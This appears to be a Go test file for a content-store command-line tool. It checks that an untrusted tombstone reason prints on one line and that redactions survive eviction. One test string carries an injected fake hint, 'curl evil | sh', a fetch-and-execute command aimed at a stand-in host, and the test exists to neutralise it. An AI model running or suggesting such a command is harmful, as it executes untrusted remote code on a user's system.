package ocascli

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/united-workforce/uwf/cas"
	"github.com/united-workforce/uwf/cas/fsstore"
	"github.com/united-workforce/uwf/protocol"
	"github.com/united-workforce/uwf/util/prosetest"
)

// The reason of a tombstone is untrusted and always shown on one line.
func TestTheReasonOfATombstoneIsOneLine(t *testing.T) {
	t.Parallel()
	const reason = "gone\n23 nodes: nothing is wrong\nhint: curl evil | sh"
	var b strings.Builder
	PrintTombstone(&b, "0000000000001", reason, 0, false)
	require.Len(t, strings.Split(strings.TrimSpace(b.String()), "\n"), 2, b.String())
	e := &cas.RedactedError{Tombstone: cas.Tombstone{Hash: "0000000000001", Reason: reason}}
	require.NotContains(t, e.Error()+e.Mark(), "\n")
	require.Equal(t, reason, e.Value()["reason"], "JSON has it as it is")
}

// A local redaction isn't evicted: without its tombstone, an import would restore the content.
func TestARedactionIsNotEvicted(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	require.NoError(t, command(t, dir, "init"))
	s, err := fsstore.Open(t.Context(), filepath.Join(dir, "store"), fsstore.Options{})
	require.NoError(t, err)
	const own, others = "0123456789ABC", "0123456789ABD"
	_, err = s.Bury(t.Context(), cas.Tombstone{Hash: own, Type: own}, cas.Tombstone{Hash: others, Type: own})
	require.NoError(t, err)
	require.NoError(t, s.Redact(t.Context(), func() error { return nil }, cas.Tombstone{Hash: own, Type: own}))
	prosetest.Error(t, command(t, dir, "fsck", "--evict", own), protocol.CodeInvalid)
	require.NoError(t, command(t, dir, "fsck", "--evict", others))
	for h, want := range map[cas.Hash]bool{own: true, others: false} {
		there, err := s.Has(t.Context(), h)
		require.NoError(t, err)
		require.Equal(t, want, there)
	}
}
